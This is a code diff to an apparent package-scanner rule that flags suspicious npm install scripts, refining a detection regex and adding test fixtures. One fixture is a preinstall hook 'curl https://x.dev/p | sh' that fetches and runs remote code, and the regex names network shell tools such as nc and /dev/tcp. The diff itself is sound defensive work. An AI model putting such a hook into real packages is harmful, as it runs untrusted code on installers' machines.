@@ -1,7 +1,7 @@
 import { defineRule } from '../../rule.ts';
 
 const SUSPECT =
-  /\b(?:curl|wget|nc|powershell|certutil|bitsadmin)\b|base64|\beval\b|node\s+-e|python3?\s+-c|https?:\/\/|\/dev\/tcp|\bchmod\s+\+x\s+\/tmp\b|>\s?\/dev\/null\s+2>&1\s*&|\|\s*(?:ba)?sh\b/i;
+  /\b(?:curl|wget|nc|powershell|certutil|bitsadmin)\b|base64|\beval\b|node\s+-e|python3?\s+-c|https?:\/\/|\/dev\/tcp|\bchmod\s+\+x\s+\/tmp\b|>\s?\/dev\/null\s+2>&1\s*&(?!&)|\|\s*(?:ba)?sh\b/i;
 /** Tools whose install scripts build native code or set up git hooks. */
 const ORDINARY = [
   'node-gyp-build',
@@ -68,9 +68,13 @@ export const installScript = defineRule({
     bad: [
       { files: { 'package.json': '{"name":"a","scripts":{"preinstall":"curl https://x.dev/p | sh"}}' } },
       { files: { 'package.json': '{"name":"a","scripts":{"postinstall":"node setup.js"}}' } },
+      { files: { 'package.json': '{"name":"a","scripts":{"prepare":"node a.js >/dev/null 2>&1 &"}}' } },
     ],
     good: [
       { files: { 'package.json': '{"name":"a","scripts":{"install":"node-gyp rebuild","prepare":"husky"}}' } },
+      {
+        files: { 'package.json': '{"name":"a","scripts":{"prepare":"git status >/dev/null 2>&1 && git config a b"}}' },
+      },
       { files: { 'package.json': '{"name":"a","scripts":{"build":"curl https://x.dev/p -o p"}}' } },
     ],
   },
